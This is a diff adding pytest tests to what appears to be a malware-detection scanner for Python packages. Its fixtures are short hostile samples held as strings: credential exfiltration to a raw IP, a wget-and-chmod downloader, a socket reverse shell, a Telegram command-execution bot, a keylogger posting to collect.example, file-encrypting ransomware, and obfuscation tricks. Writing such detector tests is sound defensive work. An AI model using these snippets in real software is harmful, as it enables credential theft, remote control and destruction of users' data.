@@ -201,3 +201,118 @@ def targets(source: str, capability: str) -> set[str]:
 def test_what_a_constant_decodes_to_is_the_target(source, target):
     found = targets(source, "decode.compress" if "zlib" in source else "decode.text")
     assert found == {target}
+
+
+GIVEN = """
+import base64, requests
+ENDPOINT = "http://45.9.20.7/v"
+def validate(private_key, url):
+    requests.post(ENDPOINT, json={"signature": base64.b64encode(private_key.encode()).decode()})
+"""
+GIVEN_TO_OBJECT = """
+import requests
+class Client:
+    def __init__(self, config):
+        data = {"a": config.access_key_id, "b": config.accessKeySecret}
+        requests.post("http://45.9.20.7/v", json=data)
+"""
+KEPT = """
+import requests
+def fetch(token, cache_key):
+    check(token)
+    return requests.get("http://45.9.20.7/v", params={"k": cache_key})
+"""
+
+
+@pytest.mark.parametrize("source", [GIVEN, GIVEN_TO_OBJECT])
+def test_a_secret_of_the_caller_is_followed_to_the_network(source):
+    assert {"cred.given -> net.send", "host.raw-ip -> net.send"} <= flows(source)
+
+
+def test_a_secret_that_stays_is_not_spoken_of():
+    assert "cred.given" not in signals(KEPT)
+
+
+PIECES = """
+import random, subprocess, tempfile
+name = str(random.randint(1, 9))
+subprocess.run(f"wget -qO /tmp/{name} https://cdn.example/x && chmod +x /tmp/{name}", shell=True)
+"""
+
+
+def test_a_command_put_together_is_read_as_a_whole():
+    assert "proc.download" in signals(PIECES)
+
+
+def layers(source: str) -> list[tuple[str, str]]:
+    unit = Unit("pkg/__init__.py", "pkg/__init__.py", source.encode(), Language.PYTHON, Role.IMPORT, "import pkg")
+    return [(layer.language, layer.data.decode()) for layer in read([unit], {unit.name: unit}).layers]
+
+
+def test_a_command_or_script_with_holes_is_a_layer_all_the_same():
+    assert any(language == "shell" and text.startswith("wget -qO /tmp/") for language, text in layers(PIECES))
+    written = "import os\nname = os.getlogin()\nopen('x.py', 'w').write('import os\\nprint(os.getpid())  # ' + name)"
+    assert ("python", "import os\nprint(os.getpid())  # os_getlogin") in layers(written)
+
+
+WRAPPED = """
+import json, socket, ssl
+context = ssl.create_default_context()
+with context.wrap_socket(socket.socket(), server_hostname="x.example") as out:
+    out.connect(("x.example", 443))
+    out.send(json.dumps({"host": socket.gethostname()}).encode())
+"""
+REMOTE = """
+import socket, subprocess
+s = socket.socket()
+s.connect(("x.example", 443))
+while True:
+    out = subprocess.getoutput(s.recv(1024).decode())
+    s.send(out.encode())
+"""
+BOT = """
+import subprocess, telebot
+bot = telebot.TeleBot("token")
+@bot.message_handler(commands=["run"])
+def run(message):
+    bot.send_message(message.chat.id, subprocess.getoutput(message.text))
+bot.infinity_polling()
+"""
+KEYS = """
+import requests
+from pynput import keyboard
+def pressed(key):
+    requests.post("https://collect.example", data=str(key))
+with keyboard.Listener(on_press=pressed) as listener:
+    listener.join()
+"""
+LOCKED = """
+from cryptography.fernet import Fernet
+key = Fernet(Fernet.generate_key())
+for path in found():
+    data = open(path, "rb").read()
+    open(path, "wb").write(key.encrypt(data))
+"""
+
+
+def test_a_wrapped_socket_is_a_socket():
+    assert "host.info -> net.send" in flows(WRAPPED)
+
+
+def test_what_a_socket_brings_is_followed():
+    assert {"net.socket -> proc.shell", "proc.shell -> net.send"} <= flows(REMOTE)
+
+
+@pytest.mark.parametrize(("source", "capability"), [(BOT, "proc.shell"), (KEYS, "net.send")])
+def test_handlers_of_what_listens_are_called(source, capability):
+    assert {signal.role for signal in observe(source).signals if signal.id.value == capability} == {Role.IMPORT}
+
+
+def test_files_that_are_read_and_enciphered_are_encrypted():
+    assert "file.encrypt" in signals(LOCKED)
+
+
+def test_code_behind_blanks_and_names_of_one_letter_are_told_of():
+    assert "obf.long-line" in signals("x = 1" + " " * 300 + ";import os")
+    names = [f"O0O0OO00O0{bits:06b}".replace("1", "O") for bits in range(20)]
+    assert "obf.names" in signals("".join(f"{name} = 1\n" for name in names))
